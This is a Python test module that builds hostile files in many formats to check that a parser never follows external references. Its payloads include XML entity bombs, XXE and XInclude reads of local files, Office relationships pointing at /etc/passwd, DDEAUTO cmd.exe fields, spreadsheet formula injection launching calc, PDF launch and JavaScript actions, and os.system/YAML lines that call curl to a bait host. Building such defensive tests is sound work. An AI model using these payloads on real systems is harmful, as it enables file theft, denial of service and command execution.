"""Files that ask their reader to open another file or an address, in every format that can."""

# ruff: noqa: E501 - a payload reads best on one line

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import Bait, Case, case, zipped
from tests.hostile.seeds import HEAD, MORE, OFFICE, PACKAGES, SHEET, WORDS, mail, relations, seeds
from tests.parsing.tiny_pdf import Page, pdf


def cases(bait: Bait) -> Iterator[Case]:
    yield from _entities(bait)
    yield from _packages(bait)
    yield from _texts(bait)
    yield from _formulas(bait)
    yield from _pdfs(bait)


def doctypes(bait: Bait) -> dict[str, tuple[str, str]]:
    """Name → document type declaration for a root element ``{root}``, and the reference that sets it off."""
    laughs = '<!ENTITY a "ha ha ha ha ">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
    )
    declared = {
        "laughs": (laughs, "&j;"),
        "quadratic": (f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 20_000),
        "recursive": ('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "file": (f'<!ENTITY a SYSTEM "{bait.local}">', "&a;"),
        "plain-file": (f'<!ENTITY a SYSTEM "{bait.file}">', "&a;"),
        "web": (f'<!ENTITY a SYSTEM "{bait.web}/entity">', "&a;"),
        "public": (f'<!ENTITY a PUBLIC "-//X//Y" "{bait.web}/public">', "&a;"),
        "parameter-file": (f'<!ENTITY % a SYSTEM "{bait.local}"> %a;', ""),
        "parameter-web": (f'<!ENTITY % a SYSTEM "{bait.web}/p.dtd"> %a;', ""),
        "parameter-laughs": ("<!ENTITY % a \"<!ENTITY b 'x'>\"> " + "%a; " * 5000, "&b;"),
        "attributes": ("<!ATTLIST {root} a CDATA 'xxxxxxxxxxxxxxxx'>" * 3000, ""),
    }
    found = {name: (f"<!DOCTYPE {{root}} [{rules}]>", use) for name, (rules, use) in declared.items()}
    found["subset-file"] = (f'<!DOCTYPE {{root}} SYSTEM "{bait.local}">', "")
    found["subset-web"] = (f'<!DOCTYPE {{root}} PUBLIC "-//X//Y" "{bait.web}/x.dtd">', "")
    return found


def _entities(bait: Bait) -> Iterator[Case]:
    roots = {"xml": "report", "rss": "rss", "svg": "svg", "html": "html"}
    for name, (declaration, use) in doctypes(bait).items():
        for seed, root in roots.items():
            yield case(
                "entity", seed, name, _declared, seeds()[seed].decode(), declaration.replace("{root}", root), use
            )
            if seed == "xml":
                yield case(
                    "entity",
                    "utf16.xml",
                    name,
                    _declared_utf16,
                    seeds()[seed].decode(),
                    declaration.replace("{root}", root),
                    use,
                )
        for seed, (make, main) in PACKAGES.items():
            for part in (
                main,
                next(each for each in make() if each.endswith((".xml", ".rels", ".opf")) and each != main),
            ):
                short = "main" if part == main else "other"
                yield case("entity", seed, f"{name}-{short}", _declared_within, seed, part, declaration, use)
        yield case("entity", "chapter.epub", name, _declared_within, "epub", "OEBPS/chapter1.xhtml", declaration, use)
        yield case("entity", "core.docx", name, _declared_within, "docx", "docProps/core.xml", declaration, use)
    yield case("entity", "xml", "xinclude", _xinclude, bait)
    yield case(
        "entity",
        "xml",
        "stylesheet",
        lambda: f'<?xml-stylesheet href="{bait.web}/x.xsl" type="text/xsl"?><a>{WORDS}</a>',
    )
    yield case("entity", "xsl.xml", "xslt", _xslt, bait)
    yield case("entity", "late.docx", "after-2-KB", _late_declaration, bait)


def _declared(sound: str, declaration: str, use: str) -> str:
    head = "" if sound.startswith("<svg") or sound.startswith("<!") else HEAD
    body = sound.removeprefix(HEAD).removeprefix("<!DOCTYPE html>")
    return head + declaration + body.replace(WORDS, WORDS + use)


def _declared_utf16(sound: str, declaration: str, use: str) -> bytes:
    return _declared(sound, declaration, use).replace("UTF-8", "UTF-16").encode("utf-16")


def _declared_within(seed: str, part: str, declaration: str, use: str) -> bytes:
    parts = PACKAGES[seed][0]()
    content = str(parts[part])
    start = content.index("<", content.startswith("<?") and content.index("?>") + 2)
    root = content[start + 1 :].replace(">", " ").split()[0]
    content = content[:start] + declaration.replace("{root}", root) + content[start:]
    for words in (WORDS, MORE, "Pump report", "Pumps"):
        content = content.replace(words, words + use, 1)
    return zipped({**parts, part: content})


def _late_declaration(bait: Bait) -> bytes:
    """A comment longer than any look at the head of a part, then the declaration."""
    parts = PACKAGES["docx"][0]()
    body = str(parts["word/document.xml"]).removeprefix(HEAD).replace(WORDS, "&a;&b;")
    rules = f'<!DOCTYPE w:document [<!ENTITY a SYSTEM "{bait.local}"><!ENTITY b "{WORDS}">]>'
    return zipped({**parts, "word/document.xml": f"{HEAD}<!--{'x' * 50_000}-->{rules}{body}"})


def _xinclude(bait: Bait) -> str:
    return (
        f'<a xmlns:xi="http://www.w3.org/2001/XInclude">{WORDS}<xi:include href="{bait.file}" parse="text"/>'
        f'<xi:include href="{bait.local}" parse="text"/><xi:include href="{bait.web}/x"/></a>'
    )


def _xslt(bait: Bait) -> str:
    return (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import '
        f'href="{bait.web}/x.xsl"/><xsl:template match="/"><xsl:value-of select="unparsed-text(\'{bait.local}\')"/>'
        f"<xsl:copy-of select=\"document('{bait.file}')\"/>{WORDS}</xsl:template></xsl:stylesheet>"
    )


def _packages(bait: Bait) -> Iterator[Case]:
    targets = {"web": f"{bait.web}/t", "file": bait.local, "plain": bait.file, "share": f"\\\\127.0.0.1@{bait.port}\\t",
               "up": "../../../../../../.." + bait.file, "absolute": "/etc/passwd"}  # fmt: skip
    for name, target in targets.items():
        for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "styles", "footnotes"):
            yield case("reference", "docx", f"{kind}-{name}", _docx_related, kind, target, name != "up")
        for kind in ("externalLinkPath", "worksheet", "sharedStrings", "drawing"):
            yield case(
                "reference", "xlsx", f"{kind}-{name}", _related, "xlsx", "xl/_rels/workbook.xml.rels", kind, target
            )
        for kind in ("slide", "image", "notesSlide", "slideLayout"):
            rels = "ppt/_rels/presentation.xml.rels" if kind == "slide" else "ppt/slides/_rels/slide1.xml.rels"
            yield case("reference", "pptx", f"{kind}-{name}", _related, "pptx", rels, kind, target)
        for seed in ("docx", "xlsx", "pptx"):
            yield case("reference", seed, f"root-{name}", _related, seed, "_rels/.rels", "officeDocument", target)
        yield case("reference", "epub", f"chapter-{name}", _epub_elsewhere, target)
        yield case("reference", "epub", f"rootfile-{name}", _epub_root, target)
        yield case("reference", "odt", f"image-{name}", _odf_linked, target)
    yield case("reference", "docx", "include-field", _include_field, bait)
    yield case("reference", "docx", "alt-chunk", _alt_chunk, bait)
    for seed, place in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")):
        yield case("macro", f"{seed}.{seed[:3]}m", "vba", _with_macro, seed, place)
        yield case("macro", seed, "vba", _with_macro, seed, place)


def _docx_related(kind: str, target: str, external: bool) -> bytes:
    parts = PACKAGES["docx"][0]()
    body = str(parts["word/document.xml"]).replace(
        "</w:body>",
        f'<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p><w:subDoc r:id="rId1" xmlns:r="{OFFICE}/relationships"/></w:body>',
    )
    parts["word/document.xml"] = body
    parts["word/_rels/document.xml.rels"] = relations((kind, target), ("styles", "styles.xml"), external=external)
    return zipped(parts)


def _related(seed: str, rels: str, kind: str, target: str) -> bytes:
    return zipped({**PACKAGES[seed][0](), rels: relations((kind, target), (kind, target), external=True)})


def _epub_elsewhere(target: str) -> bytes:
    parts = PACKAGES["epub"][0]()
    parts["OEBPS/content.opf"] = str(parts["OEBPS/content.opf"]).replace("chapter1.xhtml", target)
    return zipped(parts, stored=["mimetype"])


def _epub_root(target: str) -> bytes:
    parts = PACKAGES["epub"][0]()
    parts["META-INF/container.xml"] = str(parts["META-INF/container.xml"]).replace("OEBPS/content.opf", target)
    return zipped(parts, stored=["mimetype"])


def _odf_linked(target: str) -> bytes:
    parts = PACKAGES["odt"][0]()
    link = f'<text:p><draw:image xlink:href="{target}"/><text:section xlink:href="{target}"/>{WORDS}</text:p>'
    parts["content.xml"] = str(parts["content.xml"]).replace("</office:text>", f"{link}</office:text>")
    return zipped(parts, stored=["mimetype"])


def _include_field(bait: Bait) -> bytes:
    parts = PACKAGES["docx"][0]()
    fields = "".join(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar '
        f'w:fldCharType="end"/></w:r><w:fldSimple w:instr=\'{code}\'/></w:p>'
        for code in (f'INCLUDETEXT "{bait.file}"', f'INCLUDEPICTURE "{bait.web}/i"', "DDEAUTO c:\\\\cmd.exe", f'LINK "{bait.local}"')
    )  # fmt: skip
    parts["word/document.xml"] = str(parts["word/document.xml"]).replace("</w:body>", f"{fields}</w:body>")
    return zipped(parts)


def _alt_chunk(bait: Bait) -> bytes:
    parts = PACKAGES["docx"][0]()
    chunk = f'<w:altChunk xmlns:r="{OFFICE}/relationships" r:id="rId2"/>'
    parts["word/document.xml"] = str(parts["word/document.xml"]).replace("</w:body>", f"{chunk}</w:body>")
    parts["word/_rels/document.xml.rels"] = relations(("styles", "styles.xml"), ("aFChunk", "chunk.html"))
    parts["word/chunk.html"] = f'<iframe src="{bait.local}"></iframe><p>{WORDS}</p>'
    return zipped(parts)


def _with_macro(seed: str, place: str) -> bytes:
    return zipped({**PACKAGES[seed][0](), f"{place}/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)})


def _texts(bait: Bait) -> Iterator[Case]:
    file, web, local = bait.file, bait.web, bait.local
    html = (
        f'<link rel=stylesheet href="{web}/s.css"><base href="{web}/"><meta http-equiv=refresh content="0;url={web}/r">'
        f'<script src="{web}/s.js"></script><iframe src="{local}"></iframe><img src="{web}/i.png"><object data="{local}">'
        f'</object><embed src="{local}"><video src="{web}/v"></video><svg><use href="{web}/u"/><image href="{local}"/></svg>'
        f"<style>@import url({web}/c); @font-face {{ src: url({local}) }}</style><p>{WORDS}</p>"
    )
    rst = (
        f".. include:: {file}\n\n.. include:: {file}\n   :literal:\n\n.. literalinclude:: {file}\n\n.. raw:: html\n   :file: {file}\n\n"
        f".. raw:: html\n   :url: {web}/raw\n\n.. csv-table:: t\n   :file: {file}\n\n.. csv-table:: t\n   :url: {web}/csv\n\n"
        f".. image:: {web}/i.png\n\n.. figure:: {local}\n\n.. role:: raw-html(raw)\n   :format: html\n\n{WORDS}\n"
    )
    adoc = f"= T\n\ninclude::{file}[]\n\ninclude::{web}/x[]\n\n{{include:{file}}}\n\nimage::{local}[]\n\n|===\n,include::{file}[]\n|===\n\n{WORDS}\n"
    yield case("reference", "html", "everything", lambda: html)
    yield case(
        "reference",
        "page.md",
        "html",
        lambda: f'# T\n\n![i]({web}/i.png)\n\n[x]({local})\n\n{html}\n\n!include {file}\n\n--8<-- "{file}"\n',
    )
    yield case("reference", "rst", "directives", lambda: rst)
    yield case("reference", "adoc", "include", lambda: adoc)
    yield case(
        "reference", "tex", "input", lambda: f"\\input{{{file}}}\\include{{{file}}}\\write18{{curl {web}}}\n{WORDS}\n"
    )
    yield case(
        "reference",
        "svg",
        "image",
        lambda: (
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{local}"/><use href="{web}/u#a"/><text>{WORDS}</text></svg>'
        ),
    )
    yield case(
        "reference",
        "rss",
        "enclosure",
        lambda: seeds()["rss"].replace(b"<item>", f'<item><enclosure url="{web}/e"/><link>{local}</link>'.encode()),
    )
    yield case(
        "reference",
        "ipynb",
        "images",
        lambda: seeds()["ipynb"].replace(
            b"# Pumps", f"![i]({web}/i) ![a](attachment:../../{file}) <img src='{local}'>".encode()
        ),
    )
    yield case(
        "reference",
        "eml",
        "external-body",
        lambda: mail(f'<img src="{web}/i">').replace(
            b"text/plain;", f'message/external-body; access-type=local-file; name="{file}";'.encode()
        ),
    )
    yield case("reference", "eml", "html", lambda: mail(html).replace(b"text/plain", b"text/html"))
    yield case(
        "reference",
        "py",
        "import",
        lambda: f"import os\nos.system('curl {web}')\nopen('{file}').read()\n__import__('x')\n# {WORDS}\n",
    )
    yield case(
        "reference",
        "yaml",
        "tags",
        lambda: f"a: !!python/object/apply:os.system ['curl {web}']\nb: !include {file}\nc: {WORDS}\n",
    )
    yield case("reference", "json", "ref", lambda: f'{{"$ref": "{local}", "$schema": "{web}/s", "text": "{WORDS}"}}')
    for name, code in {
        "includetext": f'{{\\field{{\\*\\fldinst INCLUDETEXT "{file}"}}{{\\fldrslt x}}}}',
        "includepicture": f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{web}/i"}}}}', "template": f"{{\\*\\template {web}/t.dotx}}",
        "object": "{\\object\\objautlink\\objupdate{\\*\\objclass Excel.Sheet}{\\*\\objdata 0105000002000000}}",
        "dde": '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"}}',
    }.items():  # fmt: skip
        yield case("reference", "rtf", name, lambda code=code: f"{{\\rtf1\\ansi {code}\\pard {WORDS}\\par}}")


def _formulas(bait: Bait) -> Iterator[Case]:
    formulas = {
        "cmd": "=cmd|' /C calc'!A0", "dde": "=DDE(\"cmd\";\"/C calc\";\"x\")", "web": f'=WEBSERVICE("{bait.web}/w")',
        "xml": f'=IMPORTXML("{bait.web}/x","//a")', "link": f'=HYPERLINK("{bait.local}")', "plus": "+1+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0", "image": f'=IMAGE("{bait.web}/i")',
    }  # fmt: skip
    for name, formula in formulas.items():
        escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        quoted_ = formula.replace('"', '""')
        yield case("formula", "csv", name, lambda text=quoted_: f'Part,Bar\n"{text}",40\nK-12,{MORE}\n')
        yield case("formula", "xlsx", name, _formula_book, escaped)
        yield case("formula", "ods", name, _formula_sheet, escaped)


def _formula_book(formula: str) -> bytes:
    rows = f'<row r="1"><c r="A1"><f>{formula[1:]}</f></c><c r="B1" t="inlineStr"><is><t>{WORDS}</t></is></c></row>'
    parts = PACKAGES["xlsx"][0]()
    parts["xl/worksheets/sheet1.xml"] = f'{HEAD}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'
    return zipped(parts)


def _formula_sheet(formula: str) -> bytes:
    parts = PACKAGES["ods"][0]()
    parts["content.xml"] = str(parts["content.xml"]).replace(
        "<table:table-cell>", f'<table:table-cell table:formula="of:{formula}">'
    )
    return zipped(parts, stored=["mimetype"])


def _pdfs(bait: Bait) -> Iterator[Case]:
    actions = {
        "uri": f"/S /URI /URI ({bait.web}/a)", "launch": "/S /Launch /F (/bin/sh)", "javascript": f"/S /JavaScript /JS (app.launchURL\\('{bait.web}'\\))",
        "remote": f"/S /GoToR /F ({bait.file}) /D [0 /Fit]", "submit": f"/S /SubmitForm /F ({bait.web}/s)", "import": f"/S /ImportData /F ({bait.file})",
    }  # fmt: skip
    sound = pdf(Page().text(72, 700, WORDS)).decode("cp1252")
    for name, action in actions.items():
        yield case(
            "reference",
            "pdf",
            name,
            lambda action=action: sound.replace("/Type /Catalog", f"/Type /Catalog /OpenAction << {action} >>"),
        )
    stream = f"/F ({bait.file}) /FFilter /ASCIIHexDecode "
    yield case("reference", "pdf", "external-stream", lambda: sound.replace("<< /Length", f"<< {stream}/Length"))
    yield case(
        "reference",
        "pdf",
        "reference-xobject",
        lambda: sound.replace(
            "/Font <<", f"/XObject << /X << /Subtype /Form /Ref << /F ({bait.file}) /Page 0 >> >> >> /Font <<"
        ),
    )
